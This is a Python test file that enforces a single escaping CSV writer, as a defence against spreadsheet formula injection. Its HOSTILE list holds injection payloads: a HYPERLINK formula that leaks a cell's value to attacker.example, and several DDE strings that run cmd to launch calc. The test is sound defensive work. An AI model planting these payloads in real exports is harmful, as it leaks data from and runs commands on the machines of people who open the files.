"""One CSV writer for every export: no module but `stimuli/exports.py` builds a CSV writer, so
every CSV the site serves or a command writes escapes formula cells (OWASP's rule)."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

from stimuli.exports import FORMULA_STARTS
from tests import ROOT_DIR

# Competitor-chosen names a spreadsheet would run as formulas.
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# The project's code: what the site serves and what its commands, scripts and benchmarks write.
# The tests are not: they write hostile input files on purpose.
SOURCE_DIRS = ("foley_platform", "stimuli", "raters", "scoring", "scripts", "benchmarks")
THE_WRITER = Path("stimuli/exports.py")
WRITERS = {"writer", "DictWriter"}


def unsafe_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run: text starting with a formula character (numbers, such
    as a negative score, are numbers)."""
    found = []
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                try:
                    float(cell)
                except ValueError:
                    found.append(cell)
    return found


def csv_writers(source: str) -> list[int]:
    """Lines of `source` that reach csv.writer or csv.DictWriter, however `csv` was imported."""
    tree = ast.parse(source)
    modules = {"csv"}  # `import csv as x` names the module x
    lines = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            modules |= {a.asname or a.name for a in node.names if a.name == "csv"}
        elif isinstance(node, ast.ImportFrom) and node.module == "csv":
            lines += [node.lineno for a in node.names if a.name in WRITERS | {"*"}]
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in WRITERS
            and isinstance(node.value, ast.Name)
            and node.value.id in modules
        ):
            lines.append(node.lineno)
    return sorted(lines)


def test_the_scan_finds_every_way_to_a_csv_writer():
    assert csv_writers("import csv\ncsv.writer(x)\n") == [2]
    assert csv_writers("import csv as c\nw = c.DictWriter\n") == [2]
    assert csv_writers("from csv import DictWriter\n") == [1]
    assert csv_writers("from csv import reader\nimport csv\ncsv.reader(x)\n") == []


def test_no_module_but_the_exports_builds_a_csv_writer():
    found = {}
    for folder in SOURCE_DIRS:
        for path in sorted((ROOT_DIR / folder).rglob("*.py")):
            if lines := csv_writers(path.read_text(encoding="utf-8")):
                found[str(path.relative_to(ROOT_DIR))] = lines
    assert found.pop(str(THE_WRITER))  # the writer itself, seen by the scan
    assert found == {}, "write CSV through stimuli.exports.to_csv, which escapes formula cells"
